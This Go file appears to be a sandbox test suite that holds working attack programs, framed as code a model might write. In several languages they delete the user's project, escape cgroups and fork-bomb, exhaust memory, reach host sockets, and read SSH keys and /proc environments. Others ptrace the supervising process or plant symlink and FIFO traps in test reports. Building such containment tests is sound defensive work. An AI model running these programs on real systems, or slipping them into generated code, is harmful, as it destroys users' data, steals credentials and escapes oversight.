package attack

// The candidates, as a model would write them. Each prints ATTACK-RAN when
// it starts and ATTACK-SUCCEEDED:WHAT for each step that worked, then
// fails, so that its output is in the report. (A leftover's success is
// for the test to see: a secret in the report, a fixloop that blocks or
// grows.) __PROJ__, __VICTIM__,
// __HOME__, __MARKER__, __TCP__, __UNIX__ and __FIXLOOP_PID__ are replaced with the world's
// paths and addresses: a model can guess the user's home and project.

// goHeader is shared by the Go candidates; each adds func attack().
const goHeader = `package p

import (
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strconv"
	"syscall"
	"testing"
	"time"
)

var (
	_ = net.Dial
	_ = os.Getpid
	_ = exec.Command
	_ = filepath.Join
	_ = runtime.LockOSThread
	_ = strconv.Itoa
	_ = syscall.Getpid
	_ = time.Second
)

func succeeded(what string) { fmt.Println("ATTACK-SUCCEEDED:" + what) }

func TestAttack(t *testing.T) {
	fmt.Println("ATTACK-" + "RAN") // not in the source, which reports quote
	attack()
	fmt.Println("ATTACK-DONE")
	t.Fatal("the attack is over")
}
`

const pyHeader = `import ctypes, ctypes.util, mmap, os, shutil, socket, subprocess, sys, time

# What the attack saw goes into the assertion message, which pytest's
# report carries (its captured stdout is not kept).
OUT = []

def say(*args):
    OUT.append(" ".join(str(a) for a in args))
    print(*args, flush=True)

def succeeded(what):
    say("ATTACK-SUCCEEDED:" + what)

def test_attack():
    say("ATTACK-" + "RAN")  # not in the source, which reports quote
    attack()
    assert False, "\n".join(OUT)
`

// candidate is one attack in each language it is written in ("" where it
// is not: the leftovers attack only runners that read a report). expect is
// what the report must say when the attack did its part (a leftover's
// refusal), so that an attack that did nothing does not pass.
type candidate struct {
	goSrc, pySrc, javaSrc, cppSrc string
	expect                        string
}

// src returns the candidate's source in lang.
func (c candidate) src(lang string) string {
	return map[string]string{"go": c.goSrc, "python": c.pySrc, "java": c.javaSrc, "cpp": c.cppSrc}[lang]
}

var candidates = map[string]candidate{
	// Leave, in place of the report the test runner wrote, what fixloop
	// must not follow or read: a symlink to a host file (a private file in
	// the home that reads as a JUnit report, its canary in a failure
	// message), a FIFO (an open() that blocks for ever), and a
	// symlink to /dev/zero (a read without end). Each language's test
	// does it as it exits, after the runner wrote its report: pytest's
	// junit.xml (atexit), JUnit's reports directory (a shutdown hook), a
	// C++ test command's junitXml glob (the test program writes its own).
	"leftover-host-symlink": leftover(
		`os.symlink("__HOME__/private/TEST-results.xml", p)`,
		`Files.createSymbolicLink(p, Paths.get("__HOME__/private/TEST-results.xml"));`,
		`symlink("__HOME__/private/TEST-results.xml", p)`,
		"is a symbolic link"),
	"leftover-fifo": leftover(
		`os.mkfifo(p)`,
		`new ProcessBuilder("mkfifo", p.toString()).inheritIO().start().waitFor();`,
		`mkfifo(p, 0644)`,
		"a named pipe (FIFO)"),
	"leftover-dev-zero": leftover(
		`os.symlink("/dev/zero", p)`,
		`Files.createSymbolicLink(p, Paths.get("/dev/zero"));`,
		`symlink("/dev/zero", p)`,
		"is a symbolic link"),

	// Remount / read-write as root of the user namespace, then delete the
	// user's project and an unrelated directory.
	"remount-and-delete": {
		goSrc: goHeader + `
func attack() {
	for _, m := range []string{"/", "__PROJ__", "__VICTIM__"} {
		if err := syscall.Mount("none", m, "", syscall.MS_REMOUNT|syscall.MS_BIND, ""); err == nil {
			succeeded("remount " + m)
		} else {
			fmt.Println("remount", m, err)
		}
	}
	// Whether they are gone is for the test to see on the host.
	for _, d := range []string{"__PROJ__", "__VICTIM__"} {
		fmt.Println("removing", d, os.RemoveAll(d))
	}
}
`,
		pySrc: pyHeader + `
def attack():
    libc = ctypes.CDLL(ctypes.util.find_library("c"), use_errno=True)
    MS_REMOUNT, MS_BIND = 32, 4096
    for m in ["/", "__PROJ__", "__VICTIM__"]:
        if libc.mount(b"none", m.encode(), None, MS_REMOUNT | MS_BIND, None) == 0:
            succeeded("remount " + m)
        else:
            say("remount", m, os.strerror(ctypes.get_errno()))
    for d in ["__PROJ__", "__VICTIM__"]:
        shutil.rmtree(d, ignore_errors=True)
        say("removing", d)
`,
	},
	// Leave files behind in /dev/shm and in the user's home.
	"write-shm-and-home": {
		goSrc: goHeader + `
func attack() {
	for _, p := range []string{"/dev/shm/__MARKER__", "__HOME__/__MARKER__", filepath.Join(os.Getenv("HOME"), "__MARKER__")} {
		// Inside, /dev/shm and the home are the sandbox's own: the test
		// looks for the files on the host.
		if os.WriteFile(p, []byte("__MARKER__"), 0o644) == nil {
			fmt.Println("wrote", p)
		}
	}
}
`,
		pySrc: pyHeader + `
def attack():
    for p in ["/dev/shm/__MARKER__", "__HOME__/__MARKER__", os.path.join(os.environ.get("HOME", "/"), "__MARKER__")]:
        try:
            with open(p, "w") as f:
                f.write("__MARKER__")
            say("wrote", p)
        except OSError as e:
            say("write", p, e)
`,
	},
	// Leave the pids cgroup for the root one, then fork-bomb with
	// processes in sessions of their own.
	"cgroup-escape-fork-bomb": {
		goSrc: goHeader + `
func attack() {
	for _, f := range []string{"/sys/fs/cgroup/pids/cgroup.procs", "/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/memory/cgroup.procs"} {
		if os.WriteFile(f, []byte(strconv.Itoa(os.Getpid())), 0o644) == nil {
			succeeded("join " + f)
		}
	}
	started := 0
	deadline := time.Now().Add(5 * time.Second)
	for i := 0; i < 3000 && time.Now().Before(deadline); i++ {
		c := exec.Command("setsid", "sleep", "__MARKER__")
		if c.Start() != nil {
			continue
		}
		started++
	}
	fmt.Println("started", started)
	if started > 600 {
		succeeded("fork " + strconv.Itoa(started))
	}
}
`,
		pySrc: pyHeader + `
def attack():
    for f in ["/sys/fs/cgroup/pids/cgroup.procs", "/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/memory/cgroup.procs"]:
        try:
            with open(f, "w") as fh:
                fh.write(str(os.getpid()))
            succeeded("join " + f)
        except OSError:
            pass
    started, deadline = 0, time.time() + 5
    while started < 3000 and time.time() < deadline:
        try:
            subprocess.Popen(["setsid", "sleep", "__MARKER__"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            started += 1
        except OSError:
            time.sleep(0.001)
    say("started", started)
    if started > 600:
        succeeded("fork %d" % started)
`,
	},
	// Shared anonymous memory, which RLIMIT_DATA does not count: map
	// 20 GiB and touch 2 GiB of it under a 1 GiB cap.
	"map-shared": {
		goSrc: goHeader + `
func attack() {
	b, err := syscall.Mmap(-1, 0, 20<<30, syscall.PROT_READ|syscall.PROT_WRITE, syscall.MAP_SHARED|syscall.MAP_ANON|syscall.MAP_NORESERVE)
	if err != nil {
		fmt.Println("mmap", err)
		return
	}
	for i := 0; i < 2<<30; i += 4096 {
		b[i] = 1
	}
	succeeded("touched 2 GiB of shared memory")
}
`,
		pySrc: pyHeader + `
def attack():
    try:
        m = mmap.mmap(-1, 20 << 30, flags=mmap.MAP_SHARED)
    except OSError as e:
        say("mmap", e)
        return
    for i in range(0, 2 << 30, 4096):
        m[i] = 1
    succeeded("touched 2 GiB of shared memory")
`,
	},
	// Reach a unix socket and a TCP port the host listens on.
	"connect-listeners": {
		goSrc: goHeader + `
func attack() {
	for _, a := range [][2]string{{"unix", "__UNIX__"}, {"tcp", "__TCP__"}} {
		c, err := net.DialTimeout(a[0], a[1], 2*time.Second)
		if err != nil {
			fmt.Println("dial", a[1], err)
			continue
		}
		c.Write([]byte("__MARKER__"))
		c.Close()
		succeeded("connect " + a[1])
	}
}
`,
		pySrc: pyHeader + `
def attack():
    for fam, addr in [(socket.AF_UNIX, "__UNIX__"), (socket.AF_INET, "__TCP__")]:
        s = socket.socket(fam, socket.SOCK_STREAM)
        s.settimeout(2)
        try:
            if fam == socket.AF_INET:
                host, port = addr.rsplit(":", 1)
                s.connect((host, int(port)))
            else:
                s.connect(addr)
            s.sendall(b"__MARKER__")
            succeeded("connect " + addr)
        except OSError as e:
            say("dial", addr, e)
        finally:
            s.close()
`,
	},
	// Read the SSH key, the environment, fixloop's environment through
	// /proc, and attach to the parent with ptrace.
	"steal-secrets": {
		goSrc: goHeader + `
func attack() {
	for _, kv := range os.Environ() {
		fmt.Println("env", kv)
	}
	for _, p := range []string{"/proc/1/environ", "/proc/" + strconv.Itoa(os.Getppid()) + "/environ", "__HOME__/.ssh/id_rsa", filepath.Join(os.Getenv("HOME"), ".ssh/id_rsa")} {
		if b, err := os.ReadFile(p); err == nil {
			fmt.Printf("%s: %s\n", p, b)
		}
	}
	// The parent is inside the sandbox too; fixloop, by its pid, is not.
	runtime.LockOSThread()
	for _, pid := range []int{os.Getppid(), __FIXLOOP_PID__} {
		if err := syscall.PtraceAttach(pid); err == nil {
			var ws syscall.WaitStatus
			syscall.Wait4(pid, &ws, syscall.WALL, nil)
			syscall.PtraceDetach(pid)
			succeeded("ptrace " + strconv.Itoa(pid))
		} else {
			fmt.Println("ptrace", pid, err)
		}
	}
	if b, err := os.ReadFile("/proc/__FIXLOOP_PID__/environ"); err == nil {
		fmt.Printf("fixloop's environment: %s\n", b)
	}
}
`,
		pySrc: pyHeader + `
def attack():
    for k, v in os.environ.items():
        say("env", k, v)
    for p in ["/proc/1/environ", "/proc/%d/environ" % os.getppid(), "__HOME__/.ssh/id_rsa", os.path.join(os.environ.get("HOME", "/"), ".ssh/id_rsa")]:
        try:
            with open(p, "rb") as f:
                say(p, f.read())
        except OSError as e:
            say(p, e)
    libc = ctypes.CDLL(ctypes.util.find_library("c"), use_errno=True)
    libc.ptrace.restype = ctypes.c_long
    for pid in [os.getppid(), __FIXLOOP_PID__]:
        if libc.ptrace(16, pid, None, None) == 0:
            try:
                os.waitpid(pid, 0x40000000)
            except OSError:
                pass
            libc.ptrace(17, pid, None, None)
            succeeded("ptrace %d" % pid)
        else:
            say("ptrace", pid, os.strerror(ctypes.get_errno()))
    try:
        with open("/proc/__FIXLOOP_PID__/environ", "rb") as f:
            say("fixloop's environment:", f.read())
    except OSError as e:
        say(e)
`,
	},
}

// leftover is a candidate that replaces the test runner's report with
// what py, java and cpp make at p (a path in the copy): each a statement
// of its language.
func leftover(py, java, cpp, expect string) candidate {
	return candidate{
		pySrc: pyHeader + `
import atexit

def attack():
    # pytest writes its report when the session ends, before the
    # interpreter's atexit handlers.
    def leave():
        p = os.path.join(os.getcwd(), ".fixloop-pytest", "junit.xml")
        try:
            os.remove(p)
        except OSError:
            pass
        ` + py + `
    atexit.register(leave)
    say("will replace the report at exit")
`,
		javaSrc: `import static org.junit.jupiter.api.Assertions.fail;

import java.nio.file.DirectoryStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.Paths;
import org.junit.jupiter.api.Test;

public class AttackTest {
    @Test
    void attack() {
        System.out.println("ATTACK-" + "RAN"); // not in the source, which reports quote
        // The console launcher writes its reports when the engine ends and
        // then calls System.exit, which runs the shutdown hooks.
        Runtime.getRuntime().addShutdownHook(new Thread(() -> {
            try (DirectoryStream<Path> reports = Files.newDirectoryStream(Paths.get(".fixloop-java", "reports"), "TEST-*.xml")) {
                for (Path p : reports) {
                    Files.delete(p);
                    ` + java + `
                }
            } catch (Exception e) {
                e.printStackTrace();
            }
        }));
        fail("the attack is over");
    }
}
`,
		cppSrc: `#include <cstdio>
#include <sys/stat.h>
#include <unistd.h>

// The test command runs this program, which writes its JUnit XML report
// (junitXml: "reports/*.xml") and then puts the leftover in its place.
int main() {
    std::printf("ATTACK-" "RAN\n"); // not in the source, which reports quote
    mkdir("reports", 0755);
    const char *p = "reports/TEST-attack.xml";
    if (FILE *f = std::fopen(p, "w")) {
        std::fputs("<testsuite><testcase classname=\"attack\" name=\"attack\"><failure message=\"over\"/></testcase></testsuite>", f);
        std::fclose(f);
    }
    unlink(p);
    ` + cpp + `;
    std::fflush(stdout);
    return 1;
}
`,
		expect: expect,
	}
}
